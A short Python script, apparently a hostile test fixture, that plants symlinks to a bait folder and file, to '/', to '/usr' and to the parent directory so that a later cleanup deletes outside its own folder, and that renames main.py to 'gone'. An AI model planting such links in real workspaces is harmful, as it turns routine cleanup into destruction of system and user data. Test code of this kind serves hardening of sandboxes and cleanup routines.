"""Leaves links to folders outside, so that who cleans up deletes there."""

import os

import bait

for number, target in enumerate((bait.FOLDER, bait.FILE, "/", "/usr", "..")):
    try:
        os.symlink(target, f"link{number}")
    except OSError:
        pass
os.rename("main.py", "gone") if os.access(".", os.W_OK) else None
